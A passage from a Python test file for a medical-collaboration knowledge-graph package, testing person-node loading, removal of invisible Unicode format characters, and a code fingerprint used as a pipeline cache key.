    names = {d["name"] for _, d in load_graph(tmp_path / "g.json").nodes(data=True) if d["type"] == "Person"}
    assert "Zhang Shuyang" in names and "Yonghua Song" in names


def test_16_every_format_character_of_this_python_is_removed():
    import unicodedata

    from medcollab_kg.text import INVISIBLE

    assert all(INVISIBLE.fullmatch(chr(c)) for c in range(0x110000) if unicodedata.category(chr(c)) == "Cf")
    assert INVISIBLE.search("\t\n\r ") is None


# ---------------------------------------------------------------- 17. the cache key covers the package


def test_17_fingerprint_changes_when_any_module_or_data_file_changes(tmp_path):
    from medcollab_kg.nlp.pipeline import code_fingerprint

    root = tmp_path / "medcollab_kg"
    shutil.copytree(PACKAGE, root, ignore=shutil.ignore_patterns("__pycache__"))
    seen = {code_fingerprint(root)}
    assert code_fingerprint(root) in seen  # cached, stable
    for name in ("nlp/lexicon.py", "nlp/rules.py", "nlp/rules/people.json", "ingest.py", "models.py",
                 "resolution.py", "nlp/components.py"):
        copy = tmp_path / f"copy{len(seen)}" / "medcollab_kg"
        shutil.copytree(root, copy)
        (copy / name).write_bytes((copy / name).read_bytes() + b"\n")
        seen.add(code_fingerprint(copy))
        assert len(seen) == len({*seen}), name
    added = tmp_path / "added" / "medcollab_kg"
    shutil.copytree(root, added)
    (added / "nlp" / "new_words.py").write_text("WORDS = ()\n")
    seen.add(code_fingerprint(added))
    assert len(seen) == 9  # every change gave a new fingerprint
    presentation = tmp_path / "presentation" / "medcollab_kg"
    shutil.copytree(root, presentation)
    (presentation / "export" / "page.html").write_text("changed")
    (presentation / "cli" / "output.py").write_text("changed")
    (presentation / "nlp" / "__pycache__").mkdir()
    (presentation / "nlp" / "__pycache__" / "x.pyc").write_bytes(b"x")
    assert code_fingerprint(presentation) == code_fingerprint(root)


def test_17_pipeline_version_carries_the_package_fingerprint():
    from medcollab_kg.nlp.pipeline import code_fingerprint, model_version

    assert model_version("blank").endswith("." + code_fingerprint())
